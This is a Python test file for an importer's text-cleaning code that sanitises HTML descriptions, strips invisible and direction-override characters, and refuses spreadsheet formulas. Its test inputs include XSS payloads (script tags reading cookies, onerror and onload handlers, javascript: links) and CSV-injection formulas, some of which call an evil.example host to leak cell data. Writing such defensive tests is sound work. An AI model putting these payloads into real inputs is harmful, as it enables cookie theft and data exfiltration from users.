"""Descriptions keep their formatting but nothing executable; names lose export debris;
spreadsheet formulas never make it into the database."""
import pytest
from hypothesis import given
from hypothesis import strategies as st

from importers.normalise import FieldError, clean_text, plain_text, reject_formula, sanitise_html
from importers.normalise.text import markdown_html


def test_sanitise_html_keeps_formatting_and_drops_scripts_styles_and_handlers():
    html = ('<p onclick="steal()">Chorale <strong>ouverte</strong> à <em>tous</em>'
            '<script>alert(document.cookie)</script><style>p{display:none}</style></p>'
            '<ul><li>mardi</li></ul><img src=x onerror=alert(1)><iframe src="https://evil"></iframe>')
    cleaned = sanitise_html(html)
    assert "<strong>ouverte</strong>" in cleaned and "<li>mardi</li>" in cleaned
    for forbidden in ("<script", "alert", "onclick", "onerror", "<style", "<img", "<iframe"):
        assert forbidden not in cleaned


def test_links_keep_safe_targets_only_and_get_noopener():
    cleaned = sanitise_html('<a href="javascript:alert(1)">x</a> <a href="https://mpaa.fr" target="_blank">MPAA</a>'
                            ' <a href="mailto:contact@mpaa.fr">écrire</a>')
    assert "javascript" not in cleaned
    assert '<a href="https://mpaa.fr" rel="noopener">MPAA</a>' in cleaned
    assert 'href="mailto:contact@mpaa.fr"' in cleaned


def test_plain_text_descriptions_get_paragraphs_and_escaped_brackets():
    assert sanitise_html("Ligne 1\nLigne 2\n\nÂges < 12 ans") == "<p>Ligne 1<br>Ligne 2</p><p>Âges &lt; 12 ans</p>"
    assert sanitise_html("  ") is None
    assert sanitise_html("<script>only()</script>") is None


def test_plain_text_strips_markup_unescapes_entities_and_collapses_whitespace():
    assert plain_text("<p>Musique &amp; danse</p><p>Ateliers&nbsp;du   soir</p><script>x()</script>") == \
        "Musique & danse Ateliers du soir"
    assert plain_text("<br>") is None


def test_clean_text_removes_doubled_bom_nul_and_extra_spaces():
    assert clean_text("\ufeff\ufeffCiné\x00ma   Le  Méliès \n", "name", 100) == "Cinéma Le Méliès"
    assert clean_text("\x00", "name", 100) is None
    assert clean_text(93048, "address", 10) == "93048"


def test_clean_text_too_long_is_an_error_naming_the_limit():
    with pytest.raises(FieldError) as caught:
        clean_text("x" * 301, "name", 300)
    assert caught.value.field == "name"
    assert "300 au maximum" in caught.value.message
    assert len(caught.value.value) <= 200  # raw value shortened for the report


@pytest.mark.parametrize("value", [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1, "Cliquez")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r@SUM(1,2)",
    "+cmd|' /C notepad'!A0",
    "-A1*2",
    "\u00a0=1+1",  # behind a no-break or ideographic space, which cleaning strips
    "\u3000=1+2",
    # Signs that hide a call, a cell reference or a joined text further on.
    '+A1&HYPERLINK("http://evil.example/?"&B2;"clic")', '-(1)+HYPERLINK("http://evil.example")',
    '+"x"&HYPERLINK("http://evil.example")', '@"x"&HYPERLINK(1)', "+1&HYPERLINK(1)", "-$A$1&WEBSERVICE(1)",
    "+A1:B2",
])
def test_spreadsheet_formulas_are_refused(value):
    with pytest.raises(FieldError) as caught:
        reject_formula(value, "name")
    assert "formule de tableur" in caught.value.message


@pytest.mark.parametrize("value", [
    "-", "- 5 €", "+33 1 48 39 52 46", "-12.5", "+3", "@lachorale", "Théâtre = jeu", "", None, 12,
    "=> Sur inscription auprès de la médiathèque", "==> Complet", "=< 12 ans",
    "-Théâtre & danse", "- ateliers : chant & danse", "- Salle A1 & B2", "+ de 60 ans", "- 10 % sur place",
])
def test_ordinary_values_starting_with_signs_are_fine(value):
    assert reject_formula(value, "name") is None


@given(st.text())
def test_sanitised_html_never_contains_a_script(value):
    for payload in (value, f"<p>{value}<script>{value}</script></p>", f"<scr<script>ipt>{value}"):
        cleaned = sanitise_html(payload) or ""
        assert "<script" not in cleaned.lower()


def test_markdown_becomes_html_and_html_is_left_for_the_sanitiser():
    rendered = sanitise_html(markdown_html("**Bal trad** avec :\n\n- le groupe X\n- initiation\n[x](javascript:alert(1))"))
    assert "<strong>Bal trad</strong>" in rendered and "<li>le groupe X</li>" in rendered
    assert "javascript" not in rendered.split("[x]")[0] and "href=\"javascript" not in rendered
    assert markdown_html("<p>Déjà en <b>HTML</b></p>") == "<p>Déjà en <b>HTML</b></p>"
    assert markdown_html("  ") is None


def test_entities_written_in_plain_text_are_escaped_once():
    assert sanitise_html("Bal trad &amp; chansons d&#039;hier") == "<p>Bal trad &amp; chansons d'hier</p>"
    assert plain_text(sanitise_html("Théâtre &amp; danse")) == "Théâtre & danse"


def test_invisible_characters_are_removed_so_look_alike_values_are_one():
    """« Z1 », « Z1\u200d », « Z1\u2060 » and « Z1\u00ad » would be four ids, or four names,
    showing the same."""
    for hidden in ("\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\ufeff"):
        assert clean_text(f"Z{hidden}1", "external_id") == "Z1"


def test_direction_overrides_are_removed_so_a_name_shows_as_it_is_stored():
    """« \u202eeuqèhtoilbiB » shows as « Bibliothèque » reversed back: a name that displays
    otherwise than it reads, in search and on the map."""
    for control in ("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"):
        assert plain_text(f"{control}Salle{control} B") == "Salle B"
    assert plain_text("مكتبة البلدية") == "مكتبة البلدية"  # right-to-left letters need no control


@pytest.mark.parametrize(("raw", "stored", "warning"), [
    ({"name": '"><svg onload=alert(1)>'}, ("name", '">'), "« Nom » : balises HTML retirées."),
    ({"name": "MJC <b>Espace</b> Jeunes"}, ("name", "MJC Espace Jeunes"), "« Nom » : balises HTML retirées."),
    ({"name": "Atelier", "description": "<style>p{color:red}</style>"}, ("description", None),
     "« Description » : code retiré (script, style, cadre ou attribut d'événement)."),
    ({"name": "Atelier", "description": "<p>Bonjour</p><img src=x onerror=alert(1)>"},
     ("description", "<p>Bonjour</p>"),
     "« Description » : code retiré (script, style, cadre ou attribut d'événement)."),
])
def test_what_the_cleaning_removes_from_a_text_cell_is_reported(raw, stored, warning):
    """A name stored as « "> » or a description gone, without a word, left the partner guessing."""
    from importers.records import normalise

    record = normalise({"external_id": "1", **raw}, {"name": "Nom", "description": "Description"})
    assert record.values.get(stored[0]) == stored[1]
    assert warning in record.warnings


@pytest.mark.parametrize("raw", [
    {"name": "Ateliers 3 < 5 ans"}, {"name": "A", "description": "<p>Cours <b>débutants</b></p>"},
    {"name": "A", "description": "Tarifs < 10 € pour les 3-5 ans"}])
def test_formatting_and_plain_less_than_signs_are_not_reported(raw):
    from importers.records import normalise

    assert normalise({"external_id": "1", **raw}, {}).warnings == []


# Texts from the characters cleaning acts on: spaces of every kind, line breaks, invisible and
# control characters, a decomposed accent, markup and entities.
MESSY_TEXT = st.lists(st.sampled_from(["a", "É", "e\u0301", "1", "-", " ", "  ", "\t", "\n", "\xa0", "\u2009",
                                       "\u200b", "\ufeff", "\x00", "<b>", "&amp;", "'"]), max_size=10).map("".join)


@given(MESSY_TEXT)
def test_a_text_already_clean_is_cleaned_as_any_other(text):
    """Names and addresses that cleaning would not change take a short way; it gives what the
    full cleaning gives (a NUL, which the full cleaning removes, forces the full way)."""
    assert plain_text(text) == plain_text(text + "\x00")
    assert clean_text(text, "name") == clean_text(text + "\x00", "name")
    assert plain_text("  Médiathèque  Elsa\u00a0Triolet ") == "Médiathèque Elsa Triolet"
    assert plain_text("Me\u0301diathe\u0300que") == "Médiathèque"
